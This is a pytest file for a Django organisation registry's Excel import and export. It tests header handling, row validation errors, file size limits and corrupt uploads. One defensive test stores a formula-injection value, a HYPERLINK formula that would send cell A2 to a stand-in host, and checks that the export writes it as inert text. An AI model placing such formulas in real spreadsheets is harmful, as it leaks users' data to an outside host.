from __future__ import annotations

import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from openpyxl import Workbook, load_workbook

from hanjiang.registry.models import Organisation
from hanjiang.registry.tests.factories import OrganisationFactory, make_uscc

pytestmark = pytest.mark.django_db
IMPORT_URL = "/registry/organisations/import/"


def _sheet(rows: list[list[Any]]) -> SimpleUploadedFile:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile("organisations.xlsx", buffer.getvalue())


HEADERS_ZH = ["统一社会信用代码", "名称", "类型", "区划代码", "地址"]


def test_the_export_lists_what_the_user_may_see(
    users: dict[str, Any],
    client_for: Any,
    own_organisation: Organisation,
    other_organisation: Organisation,
) -> None:
    response = client_for(users["county_officer"]).get("/registry/organisations/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:5] == ("统一社会信用代码", "名称", "类型", "区划代码", "注册地行政区划")
    assert [row[0] for row in rows[1:]] == [own_organisation.uscc]
    assert rows[1][2:5] == ("电子商务企业", "420625", "谷城县")


def test_an_exported_sheet_imports_back_unchanged(
    users: dict[str, Any], client_for: Any, own_organisation: Organisation
) -> None:
    client = client_for(users["city_admin"])
    exported = client.get("/registry/organisations/export.xlsx").content
    upload = SimpleUploadedFile("back.xlsx", exported)
    response = client.post(IMPORT_URL, {"file": upload})
    assert response.status_code == 200
    assert response.context["result"].unchanged == 1
    assert response.context["result"].created == 0


def test_new_rows_are_created_and_known_codes_updated(
    users: dict[str, Any], client_for: Any, own_organisation: Organisation
) -> None:
    code = make_uscc("420625")
    upload = _sheet(
        [
            HEADERS_ZH,
            [code, "新企业（测试数据）", "电子商务平台、物流企业", "420625100", "城关镇"],
            [own_organisation.uscc, own_organisation.name, "电子商务企业", 420625, "新地址"],
        ]
    )
    response = client_for(users["county_officer"]).post(IMPORT_URL, {"file": upload})
    result = response.context["result"]
    assert (result.created, result.updated, result.unchanged) == (1, 1, 0)
    created = Organisation.objects.get(uscc=code)
    assert created.kind_codes() == ["logistics", "platform"]
    assert created.division.name == "城关镇"
    own_organisation.refresh_from_db()
    assert own_organisation.address == "新地址"


def test_english_headers_are_accepted(users: dict[str, Any], client_for: Any) -> None:
    code = make_uscc("420625")
    upload = _sheet(
        [
            ["Unified social credit code", "Name", "Kinds", "Division code"],
            [code, "English sheet (test data)", "Payment institution", "420625"],
        ]
    )
    response = client_for(users["city_admin"]).post(IMPORT_URL, {"file": upload})
    assert response.context["result"].created == 1
    assert Organisation.objects.get(uscc=code).kind_codes() == ["payment"]


def test_row_errors_name_row_and_field_and_nothing_is_saved(
    users: dict[str, Any], client_for: Any, own_organisation: Organisation
) -> None:
    good = make_uscc("420625")
    upload = _sheet(
        [
            HEADERS_ZH,
            [good, "好的一行（测试数据）", "电子商务企业", "420625", ""],
            [
                good[:-1] + ("0" if good[-1] != "0" else "1"),
                "校验位错",
                "电子商务企业",
                "420625",
                "",
            ],
            [own_organisation.uscc[:10], "", "外星企业", "999999", ""],
        ]
    )
    before = Organisation.objects.count()
    response = client_for(users["city_admin"]).post(IMPORT_URL, {"file": upload})
    assert response.status_code == 422
    errors = [(error.row, error.field, error.code) for error in response.context["errors"]]
    assert errors == [
        (3, "uscc", "invalid_uscc_checksum"),
        (4, "uscc", "invalid_uscc_length"),
        (4, "name", "required"),
        (4, "kinds", "invalid_kind"),
        (4, "division_code", "unknown_division"),
    ]
    assert "外星企业" in str(response.context["errors"][3].message)
    assert Organisation.objects.count() == before
    assert not Organisation.objects.filter(uscc=good).exists()


def test_wrong_columns_are_refused_with_their_letters(
    users: dict[str, Any], client_for: Any
) -> None:
    upload = _sheet([["统一社会信用代码", "名称", "颜色"], [make_uscc(), "x", "红"]])
    response = client_for(users["city_admin"]).post(IMPORT_URL, {"file": upload})
    assert response.status_code == 422
    messages = [str(error.message) for error in response.context["errors"]]
    assert messages == [
        "C 列的表头“颜色”无法识别。",
        "缺少必填列“类型”。",
        "缺少必填列“区划代码”。",
    ]


def test_a_file_that_is_not_a_workbook_is_refused(users: dict[str, Any], client_for: Any) -> None:
    upload = SimpleUploadedFile("fake.xlsx", b"name,code\n")
    response = client_for(users["city_admin"]).post(IMPORT_URL, {"file": upload})
    assert response.status_code == 422
    assert [error.code for error in response.context["errors"]] == ["invalid_file"]


@override_settings(UPLOAD_MAX_BYTES=100)
def test_a_file_over_the_size_limit_is_refused(users: dict[str, Any], client_for: Any) -> None:
    upload = _sheet(
        [HEADERS_ZH] + [[make_uscc(), f"企业{n}", "电子商务企业", "420625", ""] for n in range(5)]
    )
    response = client_for(users["city_admin"]).post(IMPORT_URL, {"file": upload})
    assert response.status_code == 422
    assert [error.code for error in response.context["errors"]] == ["file_too_large"]


def test_the_template_has_the_headers_and_no_rows(users: dict[str, Any], client_for: Any) -> None:
    response = client_for(users["county_officer"]).get("/registry/organisations/template.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 1
    assert rows[0] == (
        "统一社会信用代码",
        "名称",
        "类型",
        "区划代码",
        "注册地行政区划",
        "地址",
        "联系人",
        "联系电话",
        "电子邮箱",
        "备注",
    )


def test_many_rows_import_in_one_go(users: dict[str, Any], client_for: Any) -> None:
    rows = [
        [make_uscc("420625"), f"批量企业{n}（测试数据）", "电子商务企业", "420625", ""]
        for n in range(200)
    ]
    response = client_for(users["city_admin"]).post(
        IMPORT_URL, {"file": _sheet([HEADERS_ZH, *rows])}
    )
    assert response.context["result"].created == 200
    assert Organisation.objects.filter(name__startswith="批量企业").count() == 200
    OrganisationFactory()  # the factory still works after a bulk import


def test_text_that_looks_like_a_formula_is_exported_as_text(
    users: dict[str, Any], client_for: Any, own_organisation: Organisation
) -> None:
    own_organisation.note = '=HYPERLINK("http://example.test/?"&A2,"x")'
    own_organisation.save()
    response = client_for(users["city_admin"]).get("/registry/organisations/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    note = sheet.cell(row=2, column=10)
    assert note.data_type == "s"
    assert note.value == own_organisation.note


def test_a_corrupt_workbook_is_refused_not_crashed(users: dict[str, Any], client_for: Any) -> None:
    valid = _sheet([HEADERS_ZH, [make_uscc(), "x", "电子商务企业", "420625", ""]]).read()
    truncated = SimpleUploadedFile("broken.xlsx", valid[: len(valid) // 2])
    response = client_for(users["city_admin"]).post(IMPORT_URL, {"file": truncated})
    assert response.status_code == 422
    assert [error.code for error in response.context["errors"]] == ["invalid_file"]
